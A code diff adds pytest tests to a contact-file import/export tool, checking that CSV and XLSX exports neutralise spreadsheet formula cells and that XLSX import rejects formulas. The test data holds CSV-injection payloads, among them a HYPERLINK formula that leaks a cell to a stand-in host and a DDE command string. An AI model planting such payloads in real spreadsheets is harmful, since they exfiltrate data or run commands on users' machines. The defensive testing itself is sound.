@@ -128,3 +128,44 @@ def test_export_then_import_gives_the_same_records_csv_and_xlsx(tmp_path):
         assert [{k: v for k, v in r.items() if v} for r in again.records] == [
             {k: v for k, v in r.items() if v} for r in original
         ], name
+
+
+PLANTED = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.mark.parametrize("value", [PLANTED, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "  =1+1"])
+def test_csv_export_neutralises_formula_cells_and_still_reimports_them(tmp_path, value):
+    import csv as csv_module
+
+    records = check(tmp_path).records
+    stored = [{**records[0], "notes": value}]
+    with (tmp_path / "export.csv").open("w", encoding="utf-8", newline="") as stream:
+        write_csv(stored, stream)
+    with (tmp_path / "export.csv").open(encoding="utf-8", newline="") as stream:
+        exported = list(csv_module.DictReader(stream))[0]
+    assert exported["notes"] == "'" + value  # a spreadsheet shows it as text
+    assert exported["phone"] == "'+31 555 0122"
+    again = check_file(tmp_path / "export.csv", today=TODAY).records[0]
+    assert again["notes"] == value.strip() and again["phone"] == "+31 555 0122"  # import trims spaces
+
+
+def test_xlsx_export_writes_text_cells_as_text_never_as_formulas(tmp_path):
+    from openpyxl import load_workbook
+
+    records = check(tmp_path).records
+    write_xlsx([{**records[0], "notes": PLANTED}], tmp_path / "export.xlsx")
+    sheet = load_workbook(tmp_path / "export.xlsx").active
+    notes = sheet.cell(row=2, column=list(sheet.iter_rows(max_row=1, values_only=True))[0].index("notes") + 1)
+    assert notes.data_type == "s" and notes.value == PLANTED
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert check_file(tmp_path / "export.xlsx", today=TODAY).records[0]["notes"] == PLANTED
+
+
+def test_xlsx_import_refuses_a_formula_cell_naming_row_and_column(tmp_path):
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append([*HEADER, "notes"])
+    sheet.append([*ROWS[0], '=HYPERLINK("https://evil.example","x")'])
+    workbook.save(tmp_path / "contacts.xlsx")
+    with pytest.raises(ContactFileError, match=r"contacts.xlsx: row 2, column O \(notes\): holds a formula"):
+        check_file(tmp_path / "contacts.xlsx", today=TODAY)
